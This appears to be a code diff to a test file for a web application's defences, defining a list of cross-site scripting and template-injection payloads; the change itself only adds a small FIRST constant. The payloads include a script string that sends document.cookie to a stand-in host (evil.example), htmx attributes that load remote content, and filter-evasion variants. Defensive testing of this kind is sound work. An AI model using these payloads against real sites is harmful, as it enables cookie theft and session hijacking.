@@ -26,12 +26,13 @@ ASKED_FOR = (
     ("GET", "/assets/nothing.css", 404),
 )
 RUN = "window.ran = 1; alert(1); fetch('https://evil.example/?' + document.cookie)"
+FIRST = "window.ran=1"
 PAYLOADS = (
     f"<script>{RUN}</script>",
     f"</title><script>{RUN}</script>",
     f"</textarea><script>{RUN}</script>",
     f'"><img src=x onerror="{RUN}">',
-    f"'><img src=x onerror={RUN.split(';')[0]}>",
+    f"'><img src=x onerror={FIRST}>",
     f'<svg onload="{RUN}">',
     f"<svg><script>{RUN}</script></svg>",
     f'<body onload="{RUN}">',
@@ -47,7 +48,7 @@ PAYLOADS = (
     "' hx-get='//evil.example' hx-trigger='load' x='",
     '<div hx-get="//evil.example" hx-trigger="load"></div>',
     f'<div hx-on::load="{RUN}"></div>',
-    f"<div hx-vals='js:{{a: {RUN.split(';')[0]}}}' hx-get=/ hx-trigger=load></div>",
+    f"<div hx-vals='js:{{a: {FIRST}}}' hx-get=/ hx-trigger=load></div>",
     '<img src="https://evil.example/pixel">',
     '<link rel="stylesheet" href="https://evil.example/x.css">',
     '<style>@import "https://evil.example/x.css";</style>',
@@ -71,10 +72,10 @@ PAYLOADS = (
     f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
     "{{7*7}} {{config}} {% raw %}",
     "${7*7} #{7*7} <%= 7*7 %>",
-    f"{{{{constructor.constructor('{RUN.split(';')[0]}')()}}}}",
+    f"{{{{constructor.constructor('{FIRST}')()}}}}",
     f"<scr<script>ipt>{RUN}</scr</script>ipt>",
     f'<IMG SRC=x ONERROR="{RUN}">',
-    f"<img/src=x/onerror={RUN.split(';')[0]}>",
+    f"<img/src=x/onerror={FIRST}>",
     f"＜script＞{RUN}＜/script＞",
     f"\u202e<script>{RUN}</script>\u2066",
 )
